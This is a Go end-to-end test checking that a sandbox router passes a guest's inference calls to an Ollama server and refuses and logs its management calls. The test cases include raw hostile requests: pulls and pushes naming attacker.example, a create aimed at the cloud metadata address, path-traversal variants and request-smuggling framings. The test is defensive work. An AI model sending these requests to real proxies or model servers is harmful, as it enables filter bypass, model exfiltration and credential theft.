//go:build linux

package e2e

import (
	"bufio"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/agentcage/router/internal/lab"
)

// TestModelForwardInferenceOnly: from the guest, through the default forward (no api in the
// config), the inference calls pass and Ollama's management calls are refused, however
// they are spelled, pipelined or framed; the model server, which logs every request it
// receives, never sees one of them. The refusals show in status and the log with method
// and path.
func TestModelForwardInferenceOnly(t *testing.T) {
	s := newScene(t, config(lab.GoSocksAddr, ""))
	const fwd = lab.GatewayAddr + ":47831"
	base := "http://" + fwd
	if out, code := s.curl(s.lab.Guest(), base+"/v1/models"); code != 0 || !strings.Contains(out, lab.ModelID) {
		t.Fatalf("GET /v1/models: exit %d, %q", code, out)
	}
	if out, code := s.curl(s.lab.Guest(), base+"/api/chat", "-d", `{"model":"`+lab.ModelID+`","messages":[]}`); code != 0 || !strings.Contains(out, "hello from the lab") {
		t.Fatalf("POST /api/chat: exit %d, %q", code, out)
	}
	stream := `{"model":"` + lab.ModelID + `","stream":true,"messages":[{"role":"user","content":"hi"}]}`
	if out, code := s.curl(s.lab.Guest(), base+"/v1/chat/completions", "-N", "-d", stream); code != 0 || !strings.Contains(out, "lab-event-0") || !strings.Contains(out, "[DONE]") {
		t.Fatalf("streamed POST /v1/chat/completions: exit %d, %q", code, out)
	}

	post := func(target, body string) string {
		return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", target, fwd, len(body), body)
	}
	pull := `{"name":"attacker.example:8443/x/y"}`
	bad := map[string]string{
		"pull":           post("/api/pull", pull),
		"create":         post("/api/create", `{"model":"x","remote_host":"http://169.254.169.254"}`),
		"push":           post("/api/push", `{"name":"attacker.example/x/y"}`),
		"delete":         fmt.Sprintf("DELETE /api/delete HTTP/1.1\r\nHost: %s\r\nContent-Length: 12\r\n\r\n{\"name\":\"x\"}", fwd),
		"dot-dot":        post("/api/chat/../pull", pull),
		"encoded dots":   post("/api/%2e%2e/api/pull", pull),
		"double slash":   post("//api//pull", pull),
		"pipelined":      fmt.Sprintf("GET /v1/models HTTP/1.1\r\nHost: %s\r\n\r\n", fwd) + post("/api/pull", pull),
		"ambiguous body": fmt.Sprintf("POST /api/chat HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", fwd) + post("/api/pull", pull),
	}
	for name, raw := range bad {
		t.Run(name, func(t *testing.T) {
			statuses := guestExchange(t, s, fwd, raw, strings.Count(raw, " HTTP/1.1\r\n"))
			last := statuses[len(statuses)-1]
			if name == "pipelined" && (len(statuses) != 2 || statuses[0] != 200) {
				t.Errorf("pipelined: statuses %v; want 200 then 403", statuses)
			}
			if last != http.StatusForbidden {
				t.Errorf("statuses %v; want the last 403", statuses)
			}
		})
	}
	for _, r := range s.lab.ModelRequests() {
		switch r.Method + " " + r.Path {
		case "GET /v1/models", "POST /api/chat", "POST /v1/chat/completions":
		default:
			t.Errorf("the model server saw %s %s", r.Method, r.Path)
		}
	}
	n, recent := refusalCount(s.status(), "model-api")
	if n < uint64(len(bad)) {
		t.Errorf("status: %d model-api refusals; want %d", n, len(bad))
	}
	if !strings.Contains(fmt.Sprint(recent), "POST /api/pull") {
		t.Errorf("status: recent model-api refusals %+v; want POST /api/pull among them", recent)
	}
	// Logged with method and path (the first few; a summary counts the rest).
	s.waitLog(`msg="forward refused a request"`, 5*time.Second)
	if !regexp.MustCompile(`msg="forward refused a request" .*forward=model .*method=(POST|DELETE) path=/\S*api\S* reason=`).MatchString(s.log()) {
		t.Errorf("the refusals are not logged with method and path:\n%s", s.log())
	}
	if strings.Contains(s.log(), "attacker.example") {
		t.Error("the router's log holds a refused request's body")
	}
	s.wantNoLeak("model forward API")
}

// guestExchange writes raw to addr from the guest and returns the statuses of the
// responses read, up to want, until the router closes the connection.
func guestExchange(t *testing.T, s *scene, addr, raw string, want int) []int {
	t.Helper()
	c, err := s.lab.Guest().Dial(s.ctx, "tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, raw); err != nil {
		t.Fatal(err)
	}
	br := bufio.NewReader(c)
	var out []int
	for len(out) < want {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			break
		}
		io.Copy(io.Discard, resp.Body)
		out = append(out, resp.StatusCode)
	}
	if len(out) == 0 {
		t.Fatalf("no answer to %q", raw)
	}
	return out
}
